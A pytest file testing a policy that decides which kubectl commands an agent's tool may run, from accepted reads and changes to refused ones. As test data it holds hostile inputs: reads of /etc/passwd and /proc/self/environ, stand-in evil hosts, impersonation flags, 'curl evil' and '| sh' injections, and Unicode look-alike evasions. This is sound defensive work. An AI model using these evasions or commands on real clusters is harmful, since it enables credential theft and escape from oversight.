"""The kubectl command policy: what runs, what is refused and why, evasions, -f - with a
manifest, redaction for history, reading vs changing."""

from __future__ import annotations

import pytest

from taichu.commands.policy import CommandRefused, parse_command

ACCEPTED = [
    "kubectl get pods -A",
    "kubectl get pods -A -o json",
    "kubectl get pods --all-namespaces -o wide",
    "kubectl -n kube-system get pods",
    "kubectl --namespace=kube-system get pods",
    "kubectl --namespace kube-system get pods -o yaml",
    "kubectl -nkube-system get pods",
    "kubectl -n=kube-system get pods",
    "kubectl get pods -n kube-system -l 'app=a;b'",
    "kubectl get pods -l app=web,tier!=db --field-selector status.phase!=Running",
    "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
    "kubectl create role r --verb='*' --resource=pods",
    "kubectl get pods -o 'jsonpath={range .items[*]}{.metadata.name}{\"\\n\"}{end}'",
    "kubectl get pods -o custom-columns=NAME:.metadata.name,NODE:.spec.nodeName",
    "kubectl get pods -o go-template --template '{{range .items}}{{.metadata.name}}{{end}}'",
    "kubectl get deploy,svc -L app --show-labels --sort-by=.metadata.name --no-headers",
    "kubectl get pods -ojson",
    "kubectl get pods -o=json",
    "kubectl get pods -Ao json",
    "kubectl get pods --watch=false",
    "kubectl get -- pods",
    "kubectl get pods --chunk-size 100 --request-timeout=10s -v 6",
    "kubectl get nodes --v=4",
    "kubectl describe pod web-0 -n default",
    "kubectl describe nodes -l node-role.kubernetes.io/control-plane",
    "kubectl logs web-0 -c app --tail 100 --since=1h --timestamps",
    "kubectl logs -p web-0",
    "kubectl logs deploy/web --all-containers --prefix --follow=false",
    "kubectl logs -l app=web --max-log-requests 10 --limit-bytes=1048576",
    "kubectl top nodes",
    "kubectl top pod -A --containers --sort-by=cpu",
    "kubectl top po -n default",
    "kubectl explain pods.spec.containers --recursive",
    "kubectl explain deployment --api-version=apps/v1 -o plaintext",
    "kubectl api-resources --namespaced=true -o wide",
    "kubectl api-versions",
    "kubectl version -o json",
    "kubectl version --client",
    "kubectl cluster-info",
    "kubectl cluster-info dump -n default",
    "kubectl auth can-i create pods -n default",
    "kubectl auth can-i --list",
    "kubectl events -A --types=Warning --for pod/web-0",
    "kubectl get pods --help",
    "kubectl create namespace team-a",
    "kubectl create ns team-a --dry-run=client -o yaml",
    "kubectl create deployment web --image=nginx:1.27 --replicas=2",
    "kubectl create deployment web --image=busybox -- sleep 3600",
    "kubectl create job once --image=busybox -- sh -c 'echo hi'",
    "kubectl create cronjob nightly --image=busybox --schedule='0 3 * * *' -- date",
    "kubectl create configmap cfg --from-literal=a=1 --from-literal b=2",
    "kubectl create secret generic db --from-literal=password=hunter2",
    "kubectl create secret docker-registry reg --docker-server=r.io --docker-username=u "
    "--docker-password=p",
    "kubectl create service clusterip web --tcp=80:8080",
    "kubectl create svc nodeport web --tcp=80:8080 --node-port=30080",
    "kubectl create rolebinding rb --clusterrole=view --user=alice --group=devs",
    "kubectl create clusterrolebinding crb --clusterrole=view --serviceaccount=a:b",
    "kubectl create role r --verb=get --resource=pods",
    "kubectl create token default --duration=10m",
    "kubectl create sa builder",
    "kubectl delete pod web-0 --grace-period=0 --force",
    "kubectl delete deploy -l app=web --cascade=orphan",
    "kubectl delete pod web-0 --cascade",
    "kubectl scale deploy/web --replicas=3",
    "kubectl rollout status deploy/web --timeout=60s",
    "kubectl rollout status deploy/web -w=false",
    "kubectl rollout restart deploy/web",
    "kubectl rollout history deploy/web --revision=2",
    "kubectl rollout undo deploy/web --to-revision=1",
    "kubectl rollout pause deploy/web",
    "kubectl rollout resume deploy/web",
    "kubectl label pod web-0 tier=frontend --overwrite",
    "kubectl label pod web-0 tier-",
    "kubectl annotate deploy web description='the web tier' --overwrite",
    'kubectl patch deploy web -p \'{"spec":{"replicas":2}}\'',
    'kubectl patch deploy web --type=json -p=\'[{"op":"remove","path":"/spec/x"}]\'',
    "kubectl set image deploy/web app=nginx:1.27",
    "kubectl set env deploy/web LOG_LEVEL=debug",
    "kubectl set env deploy/web --from=configmap/cfg",
    "kubectl set resources deploy/web -c app --limits=cpu=200m,memory=512Mi",
    "kubectl set sa deploy/web builder",
    "kubectl set subject rolebinding rb --user=bob",
    "kubectl cordon node-1",
    "kubectl uncordon node-1",
    "kubectl drain node-1 --ignore-daemonsets --delete-emptydir-data --timeout=120s",
    "kubectl taint nodes node-1 dedicated=infra:NoSchedule",
    "kubectl\tget\tpods",
    '"kubectl" "get" pods',
    "kube'ctl' g\\et pods",
    "kubectl get pods --all_namespaces",  # kubectl reads `_` as `-`
    "kubectl get pods -A=true",
    # flag values that are also subcommand names: kubectl takes them as values too
    "kubectl -n exec get pods",
    "kubectl --namespace exec get pods",
    "kubectl -n create create ns x",
    "kubectl -v 2 get pods",
    "kubectl create --dry-run=client ns x",
    "kubectl create -o yaml --dry-run=client ns x",
    "kubectl top -n x pod",
    "kubectl rollout -n x status deploy/w",
    "kubectl auth -n x can-i get pods",
]


@pytest.mark.parametrize("command", ACCEPTED)
def test_real_commands_are_accepted(command: str) -> None:
    argv = parse_command(command, manifest=False)
    assert argv[0] == "kubectl"
    assert len(argv) >= 2


def test_argv_is_the_words_a_shell_would_pass() -> None:
    assert parse_command("kubectl -n x get pods -l 'app=a;b'", manifest=False) == [
        "kubectl", "-n", "x", "get", "pods", "-l", "app=a;b",
    ]  # fmt: skip
    assert parse_command("kube'ctl'\tget  \"po\"ds", manifest=False) == ["kubectl", "get", "pods"]
    assert parse_command("kubectl create job j --image=b -- sh -c 'a; b'", manifest=False)[-3:] == [
        "sh", "-c", "a; b",
    ]  # fmt: skip


MANIFEST_ACCEPTED = [
    "kubectl apply -f -",
    "kubectl apply -f - --server-side --force-conflicts",
    "kubectl apply --filename=- --prune -l app=web",
    "kubectl apply --filename - --dry-run=server",
    "kubectl apply -f-",
    "kubectl apply -f=-",
    "kubectl create -f - --save-config",
    "kubectl delete -f - --ignore-not-found",
    "kubectl get -f - -o name",
    "kubectl -n x apply -f -",
    "kubectl apply -f - -n x --validate=strict",
    "kubectl apply set-last-applied -f - --create-annotation",
    "kubectl apply view-last-applied -f -",
    "kubectl scale -f - --replicas=2",
    "kubectl set image -f - app=nginx --local -o yaml",
]


@pytest.mark.parametrize("command", MANIFEST_ACCEPTED)
def test_a_manifest_is_read_with_f_dash(command: str) -> None:
    assert parse_command(command, manifest=True)[0] == "kubectl"


def refused(command: str, *, manifest: bool = False) -> str:
    with pytest.raises(CommandRefused) as e:
        parse_command(command, manifest=manifest)
    assert e.value.reason == str(e.value)
    return e.value.reason


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("kubectl apply -f -", "the request has none"),
        ("kubectl apply -f /etc/passwd", "-f /etc/passwd"),
        ("kubectl apply -f https://evil.example/x.yaml", "files or URLs"),
        ("kubectl apply --filename=/etc/passwd", "--filename=/etc/passwd"),
        ("kubectl apply -f/etc/passwd", "files or URLs"),
        ("kubectl get -f ./dir", "files or URLs"),
        ("kubectl get -R -f -", "-R (--recursive)"),
        ("kubectl apply -k ./overlay", "kustomiz"),
        ("kubectl apply --kustomize=https://github.com/x/y", "kustomiz"),
        ("kubectl delete -k .", "kustomiz"),
    ],
)
def test_files_urls_and_kustomize_are_refused(command: str, named: str) -> None:
    assert named in refused(command)


def test_manifest_rules() -> None:
    assert "does not read it" in refused("kubectl get pods", manifest=True)
    assert "only once" in refused("kubectl apply -f - -f -", manifest=True)
    assert "files or URLs" in refused("kubectl apply -f - -f x.yaml", manifest=True)
    assert "stdin" in refused("kubectl set env deploy/x -e -")


# Every flag ISSUE-12 refuses, with a value where it takes one.
REFUSED_FLAGS = {
    "kubeconfig": "/tmp/k", "server": "https://evil:6443", "token": "abc", "as": "admin",
    "as-group": "system:masters", "as-uid": "0", "as-user-extra": "a=b", "context": "other",
    "cluster": "other", "user": "admin", "certificate-authority": "/tmp/ca",
    "client-certificate": "/tmp/c", "client-key": "/tmp/k", "insecure-skip-tls-verify": None,
    "username": "u", "password": "p", "cache-dir": "/tmp/c", "log-file": "/tmp/l",
    "log-dir": "/tmp/l", "tls-server-name": "x", "profile": "cpu", "profile-output": "/tmp/p",
    "kuberc": "/tmp/r", "vmodule": "x=9", "raw": "/api", "watch": None, "watch-only": None,
    "stdin": None, "tty": None, "edit": None, "recursive": None,
}  # fmt: skip


def _forms(name: str, value: str | None) -> list[str]:
    if value is None:
        return [f"--{name}", f"--{name}=true", f"--{name.replace('-', '_')}"]
    return [
        f"--{name}={value}", f"--{name} {value}", f"--{name}=", f"--{name} ''",
        f"--{name.replace('-', '_')}={value}",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "flag", [f for name, v in REFUSED_FLAGS.items() for f in _forms(name, v)], ids=str
)
@pytest.mark.parametrize("where", ["after", "before", "middle"])
def test_refused_flags_in_every_form_and_place(flag: str, where: str) -> None:
    command = {
        "after": f"kubectl get pods {flag}",
        "before": f"kubectl {flag} get pods",
        "middle": f"kubectl get {flag} pods",
    }[where]
    name = flag.split("=")[0].split(" ")[0]
    assert f"flag {name}" in refused(command)


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("kubectl get pods -s https://evil", "-s (--server)"),
        ("kubectl get pods -shttps://evil", "-s (--server)"),
        ("kubectl get pods -s=https://evil", "-s (--server)"),
        ("kubectl -s https://evil get pods", "-s (--server)"),
        ("kubectl get pods -As https://evil", "-s (--server)"),
        ("kubectl get pods -w", "-w"),
        ("kubectl get pods -Aw", "-w"),
        ("kubectl get pods --watch=true", "--watch"),
        ("kubectl get pods --watch=1", "--watch"),
        ("kubectl events -w", "-w"),
        ("kubectl rollout status deploy/x --watch", "--watch"),
        ("kubectl logs -f web-0", "following the log"),
        ("kubectl logs --follow web-0", "following the log"),
        ("kubectl logs web-0 -pf", "following the log"),
        ("kubectl logs web-0 --follow=T", "following the log"),
        ("kubectl get pods -it", "-i (--stdin)"),
        ("kubectl delete pod x -i", "-i (--stdin)"),
        ("kubectl delete pod x --interactive", "--interactive"),
        ("kubectl get pods -t", "-t (--tty)"),
        ("kubectl get pods -k .", "-k (--kustomize)"),
        ("kubectl get --raw /api/v1/nodes/n/proxy/configz", "--raw"),
        ("kubectl create --raw /api/v1/nodes/n/proxy/run/ns/p/c -f -", "--raw"),
        ("kubectl delete --raw=/api/v1/namespaces/x", "--raw"),
        ("kubectl create -f - --edit", "--edit"),
        ("kubectl cluster-info dump --output-directory=/tmp/x", "--output-directory"),
        ("kubectl create configmap c --from-file=/etc/passwd", "--from-file"),
        ("kubectl create secret generic s --from-env-file=/proc/self/environ", "--from-env-file"),
        ("kubectl create secret tls t --cert=/etc/ssl/c.pem --key=/etc/ssl/k.pem", "--cert"),
        (
            "kubectl create secret docker-registry r --from-file=/root/.docker/config.json",
            "--from-file",
        ),
        ("kubectl patch deploy x --patch-file=/etc/passwd", "--patch-file"),
        ("kubectl logs web-0 --insecure-skip-tls-verify-backend", "kubelet"),
        ("kubectl get pods -o go-template-file=/etc/passwd", "reads a file"),
        ("kubectl get pods -o templatefile --template=/etc/passwd", "reads a file"),
        ("kubectl get pods -o jsonpath-file=/etc/passwd", "reads a file"),
        ("kubectl get pods -o custom-columns-file=/etc/passwd", "reads a file"),
        ("kubectl get pods --output=go-template-file=/x", "reads a file"),
        ("kubectl get pods -v 9", "-v takes a level"),
        ("kubectl get pods -v=10", "-v takes a level"),
        ("kubectl -v9 get pods", "-v takes a level"),
        ("kubectl get pods --Server=x", "--Server is refused"),
        ("kubectl get pods --serv=x", "not allowed"),  # no abbreviations, in kubectl either
        ("kubectl get pods --log-flush-frequency=1s", "--log-flush-frequency"),
        ("kubectl get pods -x", "-x is not allowed"),
        ("kubectl get pods -o", "needs a value"),
        ("kubectl get pods ---server=x", "not a valid flag"),
        ("kubectl get pods --=x", "not a valid flag"),
    ],
)
def test_refused_flag_forms(command: str, named: str) -> None:
    assert named in refused(command)


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("kubectl config view --raw", "`kubectl config` is refused"),
        ("kubectl proxy --port=8001", "`kubectl proxy` is refused"),
        ("kubectl port-forward pod/x 8080:80", "`kubectl port-forward` is refused"),
        ("kubectl attach web-0", "`kubectl attach` is refused"),
        ("kubectl cp web-0:/etc/passwd /tmp/x", "`kubectl cp` is refused"),
        ("kubectl edit deploy web", "`kubectl edit` is refused"),
        ("kubectl debug node/n -it --image=busybox", "`kubectl debug` is refused"),
        ("kubectl exec web-0 -- id", "`kubectl exec` is refused"),
        ("kubectl -n x exec web-0 -- id", "`kubectl exec` is refused"),
        ("kubectl plugin list", "`kubectl plugin` is refused"),
        ("kubectl kustomize https://github.com/x", "`kubectl kustomize` is refused"),
        ("kubectl foo", "`kubectl foo` is not an allowed subcommand"),
        ("kubectl hack --server=x", "`kubectl hack` is not an allowed subcommand"),
        ("kubectl run x --image=busybox", "`kubectl run`"),
        ("kubectl replace -f -", "`kubectl replace`"),
        ("kubectl diff -f -", "`kubectl diff`"),
        ("kubectl wait --for=delete pod/x", "`kubectl wait`"),
        ("kubectl completion bash", "`kubectl completion`"),
        ("kubectl __complete get pods", "`kubectl __complete`"),
        ("kubectl GET pods", "`kubectl GET`"),
        ("kubectl auth whoami", "only auth subcommand allowed"),
        ("kubectl auth reconcile -f -", "only auth subcommand allowed"),
        ("kubectl auth foo", "only `auth can-i`"),
        ("kubectl apply edit-last-applied deploy/x", "opens an editor"),
        ("kubectl create foo x", "`kubectl create foo` is not an allowed subcommand"),
        ("kubectl create secret foo x", "`kubectl create secret foo`"),
        ("kubectl top", "needs one of its subcommands: node, pod"),
        ("kubectl rollout", "needs one of its subcommands"),
        ("kubectl set deploy/x", "`kubectl set deploy/x`"),
        ("kubectl", "give a kubectl subcommand"),
        ("kubectl -n x", "give a kubectl subcommand"),
        ("kubectl --help", "give a kubectl subcommand"),
        ("", "the command is empty"),
        ("   ", "the command is empty"),
    ],
)
def test_refused_subcommands(command: str, named: str) -> None:
    assert named in refused(command)


@pytest.mark.parametrize(
    ("command", "named"),
    [
        # The subcommand is found as kubectl finds it: a flag's value is never taken for it.
        ("kubectl -n get exec pods", "`kubectl exec` is refused"),
        ("kubectl --namespace get exec", "`kubectl exec` is refused"),
        ("kubectl --namespace=get exec", "`kubectl exec` is refused"),
        ("kubectl -n get", "give a kubectl subcommand"),
        ("kubectl --request-timeout 1s exec x", "`kubectl exec` is refused"),
        ("kubectl -hn x get pods", "separate flags after the subcommand"),
        ("kubectl -- get pods", "`--` cannot come before the subcommand"),
        ("kubectl - get pods", "'-' is not a flag"),
        ("kubectl create -f - secret generic s", "put --filename after the subcommand"),
        # kubectl's `create secret` has no --dry-run: it would take `generic` as its value
        ("kubectl create --dry-run secret generic s", "put --dry-run after the subcommand"),
        ("kubectl create --from-literal=a=b secret generic s", "--from-literal is not allowed"),
    ],
)
def test_the_subcommand_is_found_as_kubectl_finds_it(command: str, named: str) -> None:
    assert named in refused(command)


def test_a_flag_value_is_not_a_subcommand() -> None:
    # `-n exec` is the namespace "exec"; the subcommand is get.
    assert parse_command("kubectl -n exec get pods", manifest=False)[3] == "get"
    assert parse_command("kubectl --namespace exec get pods", manifest=False)[3] == "get"
    assert parse_command("kubectl -v 2 get pods", manifest=False)[3] == "get"


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("KUBECONFIG=/tmp/x kubectl get pods", "environment variable (KUBECONFIG=…)"),
        ("HTTPS_PROXY=http://evil kubectl get pods", "environment variable"),
        ("env kubectl get pods", "`env` may not wrap it"),
        ("env KUBECONFIG=x kubectl get pods", "`env` may not wrap it"),
        ("sudo kubectl get pods", "`sudo` may not wrap it"),
        ("/usr/bin/kubectl get pods", "without a path"),
        ("./kubectl get pods", "without a path"),
        ("Kubectl get pods", "'Kubectl' is not kubectl"),
        ("kubectl.exe get pods", "is not kubectl"),
        ("k get pods", "'k' is not kubectl"),
        ("kubectl-foo", "is not kubectl"),
        ("kubесtl get pods", "look-alike"),  # Cyrillic е and с
        ("ｋubectl get pods", "look-alike"),  # fullwidth k
        ("kubectl get pods \u2013n x", "U+2013"),  # en dash for -n
        ("kubectl get pods \u2014\u2014server=x", "U+2014"),
        ("kubectl get pods \u2212s x", "U+2212"),
        ("kubectl get pods \uff0d\uff0dserver=x", "U+FF0D"),
        ("kubectl get pods --\u0455erver=x", "not allowed"),  # Cyrillic ѕ: unknown to kubectl
        ("kubectl g\u0435t pods", "is not an allowed subcommand"),  # Cyrillic е
        ("kubectl \u0435x\u0435c p -- id", "is not an allowed subcommand"),
        ("kubectl get\u00a0pods", "U+00A0"),
        ("kubectl get pods\u200b --server=x", "U+200B"),
        ("kubectl get pods \u202e--server=x", "U+202E"),
        ("kubectl get pods -- --server=x", "refused even as a value or after `--`"),
        ("kubectl get pods -l --server=x", "refused even as a value or after `--`"),
        ("kubectl get pods --selector=--token=x", "refused even as a value"),
        ("kubectl create job j --image=b -- --kubeconfig=/x", "after `--`"),
        ("kubectl get pods '--server=x'", "flag --server is refused"),
        ('kubectl get pods "--ser"ver=x', "flag --server is refused"),
        ("kubectl get pods --ser\\ver=x", "flag --server is refused"),
        ("kubectl get pods -\\s x", "-s (--server)"),
        ("kubectl get pods; kubectl --server=x get pods", "`;`"),
        ("kubectl get pods && curl evil", "`&&`"),
        ("kubectl get pods || true", "`||`"),
        ("kubectl get pods | sh", "`|`"),
        ("kubectl get pods > /tmp/x", "redirection `>`"),
        ("kubectl get pods >> /tmp/x", "redirection `>>`"),
        ("kubectl get pods 2> /tmp/x", "redirection `2>`"),
        ("kubectl apply -f - < /etc/passwd", "redirection `<`"),
        ("kubectl apply -f - <<EOF", "here-document"),
        ("kubectl get pods -n $(cat /etc/hostname)", "`$(…)`"),
        ("kubectl get pods -n ${NS}", "`${…}`"),
        ("kubectl get pods -n $NS", "`$NS`"),
        ("kubectl get pods -n `id`", "backticks"),
        ('kubectl get pods -n "$(id)"', "inside double quotes"),
        ("kubectl get pods &", "background"),
        ("kubectl get pods\nkubectl delete ns x", "line break"),
        ("kubectl get pods\0--server=x", "NUL"),
        ("kubectl get pods #--server=x", "comment"),
        ("kubectl get pods --kubeconfig=~/.kube/config", "tilde"),
        ("kubectl get {pods,secrets}", "brace expansion"),
        ("kubectl get pods -l 'a=b", "not closed"),
    ],
)
def test_evasions_are_refused(command: str, named: str) -> None:
    assert named in refused(command, manifest="-f -" in command)


def test_quoted_shell_characters_are_literal_arguments() -> None:
    argv = parse_command(
        "kubectl get pods -l 'app in (a;b),x!=y' -o 'jsonpath={$.x}'", manifest=False
    )
    assert argv[-3:] == ["app in (a;b),x!=y", "-o", "jsonpath={$.x}"]
    argv = parse_command('kubectl annotate pod p note="a > b && c | d"', manifest=False)
    assert argv[-1] == "note=a > b && c | d"


def test_refusal_carries_the_redacted_command() -> None:
    with pytest.raises(CommandRefused) as e:
        parse_command("kubectl get pods --token=s3cr3t --server=https://evil", manifest=False)
    assert "s3cr3t" not in e.value.command
    assert "--token=***" in e.value.command
    with pytest.raises(CommandRefused) as e:
        parse_command("kubectl get pods --password 'hunter 2' | sh", manifest=False)
    assert "hunter" not in e.value.command


def test_refusal_reasons_say_what_to_do_instead() -> None:
    assert "cluster_id" in refused("kubectl get pods --server=https://x")
    assert "bound service account" in refused("kubectl get pods --token=x")
    assert "--from-literal" in refused("kubectl create configmap c --from-file=x")
    assert "manifest" in refused("kubectl create secret tls t --cert=c --key=k")
    assert "-p" in refused("kubectl patch deploy d --patch-file=p.json")
    assert "patch" in refused("kubectl edit deploy d")
    assert "quote" in refused("kubectl get pods -o jsonpath={.items[*]}")
    assert "`manifest` field" in refused("kubectl apply -f x.yaml")
